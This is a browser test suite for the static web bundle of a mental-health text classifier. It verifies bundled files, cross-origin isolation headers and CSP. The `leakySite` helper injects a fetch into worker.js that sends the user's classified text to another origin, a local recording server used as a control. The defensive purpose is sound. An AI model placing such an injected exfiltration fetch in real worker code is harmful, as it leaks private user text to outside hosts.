// The static bundle (web/bundle.sh), served with nothing but the headers of its own
// _headers file, as a static host would:
// - a first visit loads the bundled default model and classifies like the CLI;
// - the policy reaches the worker: a request to another origin, injected into the worker
//   during classification, never arrives, with the bundle's headers or with the worker's
//   header alone; with no policy at all the same request does arrive (the negative
//   control: the check can fail).
//
// Needs web/pkg (web/build.sh), the CLI and models/ (scripts/setup-model.sh).

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { copyFileSync, existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { launchChromium } from './launch.mjs';
import { serve, parseHeaders, CSP } from '../../web/serve.mjs';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const TINY_FILES = ['config.json', 'model.safetensors', 'tokenizer.json'].map((f) => join(ROOT, 'tests/fixtures/tiny/qwen2', f));
const TARGET = process.env.CARGO_TARGET_DIR || join(process.env.HOME, '.cache/mentalqlm/target');
const CLI = process.env.MENTALQLM_BIN || join(TARGET, 'release/mentalqlm');
const TEXT = 'I have not slept properly in weeks and nothing feels worth doing anymore.';

let dist;
let site;
let foreign;
const foreignRequests = [];
let browser;

before(async () => {
  assert.ok(existsSync(join(ROOT, 'web/pkg/mentalqlm_web_bg.wasm')), 'web/pkg is missing: run web/build.sh');
  dist = mkdtempSync(join(tmpdir(), 'mq-bundle-'));
  execFileSync('bash', [join(ROOT, 'web/bundle.sh'), dist], { stdio: ['ignore', 'pipe', 'inherit'] });
  site = await serve({ root: dist, headersFile: join(dist, '_headers') });
  // Another origin (another port), which records what reaches it.
  foreign = createServer((req, res) => { foreignRequests.push(req.url); res.end('ok'); });
  await new Promise((ok) => foreign.listen(0, '127.0.0.1', ok));
  browser = await launchChromium();
});

after(async () => {
  await browser?.close();
  site?.server.close();
  foreign?.close();
  if (dist) rmSync(dist, { recursive: true, force: true });
});

test('the bundle holds the app, the classifiers, the model and the headers', () => {
  for (const f of ['index.html', 'app.js', 'worker.js', 'threads.js', 'sw.js', 'style.css', 'pkg/mentalqlm_web.js',
    'pkg/mentalqlm_web_bg.wasm', 'pkg-threads/mentalqlm_web.js', 'pkg-threads/mentalqlm_web_bg.wasm',
    'classifiers/DR/classifier.json', 'classifiers/DR/probe.safetensors',
    'models/SmolLM2-135M-Instruct.Q4_1.gguf', '_headers', '.htaccess']) {
    assert.ok(existsSync(join(dist, f)), `${f} is not in the bundle`);
  }
  const rules = parseHeaders(readFileSync(join(dist, '_headers'), 'utf8'));
  assert.equal(rules.find((r) => r.pattern.test('/worker.js')).headers['content-security-policy'], CSP);
  // Cross-origin isolation, for wasm threads, on every file (workers take it from their own
  // response), in both header files.
  for (const path of ['/', '/worker.js', '/threads.js', '/pkg-threads/mentalqlm_web.js']) {
    const headers = Object.assign({}, ...rules.filter((r) => r.pattern.test(path)).map((r) => r.headers));
    assert.equal(headers['cross-origin-opener-policy'], 'same-origin', path);
    assert.equal(headers['cross-origin-embedder-policy'], 'require-corp', path);
  }
  const htaccess = readFileSync(join(dist, '.htaccess'), 'utf8');
  assert.ok(htaccess.includes('Cross-Origin-Opener-Policy "same-origin"') && htaccess.includes('Cross-Origin-Embedder-Policy "require-corp"'));
  assert.ok(htaccess.includes(`Content-Security-Policy "${CSP}"`));
  // The meta tag carries the same policy.
  assert.ok(readFileSync(join(dist, 'index.html'), 'utf8').includes(`content="${CSP}"`));
});

// Classifies TEXT for DR in `page` (a model loaded); returns the page's result.
async function classifyIn(page) {
  await page.fill('#text', TEXT);
  await page.click('#classify');
  await page.waitForFunction(() => document.body.dataset.results || document.body.dataset.error, null, { timeout: 300_000 });
  assert.equal(await page.evaluate(() => document.body.dataset.error), undefined);
  return JSON.parse(await page.getAttribute('#result', 'data-json'));
}

test('a first visit to the bundle classifies with the bundled model like the CLI', async () => {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  try {
    const page = await context.newPage();
    await page.goto(`${site.url}?backend=cpu`);
    await page.waitForFunction(() => document.body.dataset.loaded || document.body.dataset.error, null, { timeout: 600_000 });
    assert.equal(await page.evaluate(() => document.body.dataset.error), undefined);
    const got = await classifyIn(page);
    const out = execFileSync(CLI, ['classify', '--task', 'DR', '--json', '--device', 'cpu', '--', TEXT], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
    const want = JSON.parse(out.trim().split('\n').pop());
    assert.equal(got.method, 'probe');
    assert.equal(got.label, want.label);
    got.labels.forEach((name, i) => {
      assert.ok(Math.abs(got.probabilities[i] - want.probabilities[name]) <= 1e-3, `P(${name}) page ${got.probabilities[i]} vs CLI ${want.probabilities[name]}`);
    });
  } finally {
    await context.close();
  }
});

// A copy of the bundle's app whose worker.js first fetches `target` on every classify message
// (written on disk: a worker script fulfilled by Playwright's routing cannot reach another
// origin at all, which would make the control pass vacuously), served with `headers` as its
// _headers file; `meta: false` also drops the page's policy meta tag.
async function leakySite(target, headers, { meta }) {
  const dir = mkdtempSync(join(tmpdir(), 'mq-leak-'));
  for (const f of ['app.js', 'sw.js', 'style.css']) copyFileSync(join(dist, f), join(dir, f));
  symlinkSync(join(dist, 'pkg'), join(dir, 'pkg'));
  let html = readFileSync(join(dist, 'index.html'), 'utf8');
  if (!meta) html = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
  writeFileSync(join(dir, 'index.html'), html);
  const leak = `self.addEventListener('message', (e) => {
  if (e.data && e.data.type === 'classify') fetch(${JSON.stringify(target)} + '?text=' + encodeURIComponent(e.data.text)).catch(() => {});
});
`;
  writeFileSync(join(dir, 'worker.js'), leak + readFileSync(join(dist, 'worker.js'), 'utf8'));
  writeFileSync(join(dir, '_headers'), headers);
  const served = await serve({ root: dir, headersFile: join(dir, '_headers') });
  return { ...served, dir };
}

// Loads the tiny model on `url` and classifies TEXT once.
async function classifyOn(url) {
  const context = await browser.newContext({ serviceWorkers: 'block' });
  try {
    const page = await context.newPage();
    await page.goto(`${url}?backend=cpu&autoload=0`);
    await page.waitForFunction(() => document.body.dataset.backend || document.body.dataset.error, null, { timeout: 120_000 });
    await page.setInputFiles('#model-files', TINY_FILES);
    await page.click('#load');
    await page.waitForFunction(() => document.body.dataset.loaded || document.body.dataset.error, null, { timeout: 120_000 });
    assert.equal(await page.evaluate(() => document.body.dataset.error), undefined);
    await classifyIn(page);
    // Time for a request in flight to land.
    await page.waitForTimeout(1000);
  } finally {
    await context.close();
  }
}

test("the bundle's policy keeps the worker from reaching another origin (with a control)", async () => {
  const target = `http://127.0.0.1:${foreign.address().port}/leak`;
  const bundleHeaders = readFileSync(join(dist, '_headers'), 'utf8');
  const noPolicy = bundleHeaders.split('\n').filter((l) => !l.includes('Content-Security-Policy')).join('\n');
  const workerOnly = `${noPolicy}\n/worker.js\n  Content-Security-Policy: ${CSP}\n`;
  const cases = [
    // The control: no policy anywhere, and the injected request arrives, text and all.
    { name: 'no policy', headers: noPolicy, meta: false, arrives: true },
    // The worker's own header alone stops it: a host must send it (a worker reads no meta tag).
    { name: "the worker's header only", headers: workerOnly, meta: false, arrives: false },
    // The bundle as shipped.
    { name: 'the bundle', headers: bundleHeaders, meta: true, arrives: false },
  ];
  for (const c of cases) {
    foreignRequests.length = 0;
    const leaky = await leakySite(target, c.headers, c);
    try {
      await classifyOn(leaky.url);
    } finally {
      leaky.server.close();
      rmSync(leaky.dir, { recursive: true, force: true });
    }
    if (c.arrives) {
      assert.equal(foreignRequests.length, 1, `${c.name}: the control's request did not arrive`);
      assert.ok(decodeURIComponent(foreignRequests[0]).includes(TEXT), `${c.name}: ${foreignRequests[0]}`);
    } else {
      assert.deepEqual(foreignRequests, [], `${c.name}: a request from the worker reached another origin`);
    }
  }
});
